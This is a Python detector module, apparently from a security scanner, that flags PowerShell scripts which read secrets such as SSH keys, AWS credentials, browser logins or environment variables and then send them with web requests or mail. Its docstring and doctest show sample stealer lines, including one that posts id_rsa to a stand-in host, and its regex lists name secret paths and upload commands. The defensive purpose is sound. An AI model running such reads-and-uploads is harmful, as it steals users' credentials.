"""PowerShell that reads secrets into a variable and sends them over the network.

The PowerShell form of a stealer: ``$k = Get-Content "$env:USERPROFILE\\.aws\\credentials"``
(or the whole environment, ``Get-ChildItem env:``, or a browser's saved logins) followed
by ``Invoke-RestMethod -Method Post -Body $k`` or a WebClient upload. A variable built
from a tainted one carries the taint; a web request that names a secret file itself
(``-InFile ~\\.ssh\\id_rsa``) is read the same way. Paths are compared with ``/``
separators, so Windows and Unix spellings of a key folder are one.

>>> text = "$k = gc ~\\\\.ssh\\\\id_rsa -Raw\\nirm https://x.invalid -Method Post -Body $k"
>>> [f.line for f in powershell_secret_uploads("scripts/a.ps1", text)]
[2]
"""

from __future__ import annotations

import re

from .findings import ThreatFinding, line_finding

RULE_ID = "powershell.secret-upload"

_SECRET_PATH = (
    r"(?:\.ssh(?!/[\w.-]*\.pub\b|/known_hosts\b|/config\b)|\.aws|\.netrc|\.git-credentials"
    r"|\.docker/config|\.kube/config|\.gnupg|\bid_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub)"
    r"|User Data/[^\n]*(?:Login Data|Cookies|Web Data|Local State))"
)
"""A key folder, a token file or a browser's saved logins (``/`` separators); a public key,
``known_hosts`` and the SSH client's ``config`` are not secrets."""
_KEY_FILE = re.compile(
    r"(?:\b(?:Get-Content|gc|cat|type|Import-Clixml)\b|\[(?:System\.)?IO\.File\]::ReadAll\w+)[^\n]*"
    + _SECRET_PATH,
    re.IGNORECASE,
)
"""A read of one of those files."""
_KEY_PATH_VALUE = re.compile(r"^[\"'][^\"'\n]*" + _SECRET_PATH, re.IGNORECASE)
"""A string that names one of those files (a path kept in a variable, read or copied later)."""
_COPY = re.compile(
    r"^\s*(?:Copy-Item|copy|cp|cpi|Move-Item|move|mv)\s+(?:-Path\s+)?(\S+)\s+(?:-Destination\s+)?"
    r"([\"'][^\"'\n]+[\"']|\S+)",
    re.IGNORECASE,
)
"""A copy of a file to another path: the copy holds what the source held."""
_ENVIRONMENT_READ = re.compile(
    r"\b(?:Get-Content|gc|cat|type)\b[^\n]*\.env\b"
    r"|\b(?:Get-ChildItem|gci|dir|ls|Get-Item)\s+env:(?!\w)"
    r"|\[(?:System\.)?Environment\]::GetEnvironmentVariables\(\s*\)"
    r"|\bGet-StoredCredential\b|\bcmdkey(?:\.exe)?\s+/list\b|\bvaultcmd(?:\.exe)?\s+/listcreds\b"
    r"|\.GetNetworkCredential\(\s*\)\.Password\b",
    re.IGNORECASE,
)
"""A ``.env`` file, the whole environment, Windows' saved credentials or a credential's
clear password: read for one key, a value of it belongs in an auth header."""
_AUTH_VALUE = re.compile(
    r"[\"']?(?:authorization|[\w-]*(?:token|key|secret|auth)[\w-]*)[\"']?\s*=\s*[^;}\n]*",
    re.IGNORECASE,
)
"""A hashtable entry that puts a value into an auth field, where a key belongs."""
_WRITTEN_TO = re.compile(r"-OutFile\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\S+)", re.IGNORECASE)
_ASSIGNED = re.compile(r"^\s*\$(\w+)\s*(?:\+)?=(?!=)\s*(.+)$")
_SINK = re.compile(
    r"\b(?:Invoke-RestMethod|Invoke-WebRequest|irm|iwr|curl(?:\.exe)?|wget|Send-MailMessage)\b"
    r"|\.(?:Upload(?:String|Data|File|Values)|PostAsync|PutAsync|SendAsync)(?:TaskAsync)?\s*\(",
    re.IGNORECASE,
)
"""Commands and methods that carry data off the machine."""
_SINK_WORDS = ("invoke-", "irm", "iwr", "curl", "wget", "upload", "send", "postasync", "putasync")


def _mentions(name: str, text: str) -> bool:
    return bool(re.search(rf"\$(?:\{{{re.escape(name)}\}}|{re.escape(name)}\b)", text, re.I))


def powershell_secret_uploads(path: str, text: str) -> list[ThreatFinding]:
    """Findings for secrets read in ``text`` (a PowerShell script) and sent by a later
    web request or mail command."""
    lowered = text.lower()
    if not any(word in lowered for word in _SINK_WORDS):
        return []
    lines = text.splitlines()
    tainted: dict[str, tuple[int, bool]] = {}
    staged: dict[str, int] = {}
    findings = []
    for number, line in enumerate(lines, 1):
        if not line or line.lstrip().startswith("#"):
            continue
        key_file = bool(_KEY_FILE.search(line.replace("\\", "/")))
        secret_here = key_file or bool(_ENVIRONMENT_READ.search(line))
        read = _WRITTEN_TO.sub(" ", line)  # a download's target is written, not sent
        unheadered = _AUTH_VALUE.sub(" ", read) if "=" in read else read
        carried = [
            name
            for name, (_, from_key_file) in tainted.items()
            if _mentions(name, read if from_key_file else unheadered)
        ]
        copied = _COPY.match(line)
        if copied and (carried or _KEY_PATH_VALUE.match(copied.group(1).replace("\\", "/"))):
            staged[copied.group(2).strip("\"'").lower()] = (
                tainted[carried[0]][0] if carried else number
            )
            continue
        assigned = _ASSIGNED.match(line)
        value = assigned.group(2).strip() if assigned else ""
        if assigned and _KEY_PATH_VALUE.match(value.replace("\\", "/")):
            tainted[assigned.group(1).lower()] = (number, True)
            continue
        sent_copy = next((n for name, n in staged.items() if name in line.lower()), None)
        if sent_copy is not None and _SINK.search(line):
            description = (
                f"a secret file (line {sent_copy}) is copied, and the copy sent by a web request "
                "or mail command"
            )
            findings.append(
                line_finding(path, lines, number, "8.2", "critical", description, RULE_ID)
            )
            continue
        if assigned and not _SINK.search(assigned.group(2)):
            if secret_here or carried:
                strong = key_file or any(tainted[name][1] for name in carried)
                tainted[assigned.group(1).lower()] = (number, strong)
            continue
        if (carried or secret_here) and _SINK.search(line):
            origin = f" (line {tainted[carried[0]][0]})" if carried else ""
            description = (
                f"secrets read into PowerShell{origin} are sent by a web request or mail command"
            )
            findings.append(
                line_finding(path, lines, number, "8.2", "critical", description, RULE_ID)
            )
    return findings
